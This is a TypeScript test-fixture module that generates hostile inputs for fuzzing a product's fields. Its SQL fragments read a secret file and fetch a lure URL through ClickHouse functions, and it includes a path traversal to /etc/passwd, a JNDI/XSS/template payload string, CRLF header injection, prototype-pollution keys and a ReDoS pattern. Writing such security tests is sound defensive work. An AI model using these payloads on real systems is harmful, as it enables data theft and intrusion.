/** Values that no field should be harmed by, of the kinds that have harmed fields of other products. */
import { type KnownEntities, LOCAL_ID } from './known-entities.ts'

export type HostileKind = 'stream' | 'sql' | 'query' | 'text' | 'number' | 'wrong-type' | 'size'

export interface HostileValue<T = unknown> {
  readonly kind: HostileKind
  readonly value: T
}

/** Each shows itself where it runs: by the text of a file, by a request to the lure, or by an error of the engine. */
export function sqlFragments({ secretFile, lure, foreignStream }: KnownEntities): readonly string[] {
  const row = `generateUUIDv4(),'i',0,'s',line,'',[''],'i','n','1.1.1.1',0,'u',0,CAST('{}' AS JSON)`
  return [
    'ASC, throwIf(1)',
    `ASC LIMIT 0 UNION ALL SELECT ${row} FROM file('${secretFile}','LineAsString','line String') LIMIT 2 -- `,
    `1 UNION ALL SELECT * FROM url('${lure}','LineAsString','line String') -- `,
    '1; SELECT throwIf(1)',
    "') OR throwIf(1) -- ",
    "' OR 1=1 -- ",
    '` OR throwIf(1) -- ',
    '" OR throwIf(1) -- ',
    "\\' OR throwIf(1) -- ",
    `x') OR has(streams, '${foreignStream}') OR ('' = '`,
    '1 SETTINGS max_execution_time=600',
    '{p0:String}',
  ]
}

function streamTexts({ foreignStream: b, ownStream: a }: KnownEntities): readonly string[] {
  const half = b.slice(0, 12)
  return [b, '', ' ', '*', half, b.slice(12), b.toUpperCase(), `${a},${b}`, `${a} ${b}`, `${b}:x`, ` ${b}`, `${b}\0`]
}

function queryTexts({ foreignStream: b, ownStream: a }: KnownEntities): readonly string[] {
  return [
    '*',
    `streams:${b}`,
    `NOT streams:${a}`,
    `streams:${a} OR streams:*`,
    `*) OR (streams:${b}`,
    '_exists_:streams OR *:*',
    '/.*/',
    'user:/(a+)+$/ OR message:*',
    '_index:* OR _id:*',
  ]
}

const oddTexts = ({ lure, secretFile }: KnownEntities): readonly string[] => [
  "'",
  '`"\\',
  'a\0b',
  '\ud800',
  '\u202e\ufeff',
  '__proto__',
  'constructor',
  'toString',
  '../../../../etc/passwd',
  secretFile,
  `file://${secretFile}`,
  lure,
  '\u0024{jndi:ldap://x}{{7*7}}<script>alert(1)</script>',
  'a\r\nset-cookie: a=b',
  'NaN',
  '1e300',
  '-1',
  '$part$',
  '9999-12-31T23:59:59.999Z',
]

const LONG = 'x'.repeat(20_000)

export function hostileTexts(known: KnownEntities): readonly HostileValue<string>[] {
  const as = (kind: HostileKind, values: readonly string[]) => values.map((value) => ({ kind, value }))
  return [
    ...as('stream', streamTexts(known)),
    ...as('sql', sqlFragments(known)),
    ...as('query', queryTexts(known)),
    ...as('text', oddTexts(known)),
    ...as('size', [LONG]),
  ]
}

export const hostileNumbers: readonly HostileValue[] = [
  1e300,
  -1e300,
  -1,
  0,
  1,
  0.5,
  2 ** 31,
  2 ** 53,
  2 ** 63,
  2 ** 64,
  '1',
  'NaN',
  '1e300',
].map((value) => ({ kind: 'number', value }))

const DEEP = Array.from({ length: 500 }).reduce<unknown>((inner) => [inner], 1)

/** Values in place of anything. */
export const wrongTypes: readonly HostileValue[] = [
  ...[null, true, 0, 'text', [], {}, [[]], { [LOCAL_ID]: null }, { type: LOCAL_ID }, { ['__proto__']: { a: 1 } }].map(
    (value) => ({ kind: 'wrong-type' as const, value }),
  ),
  { kind: 'size', value: DEEP },
]

export const HUGE_LIST = 300
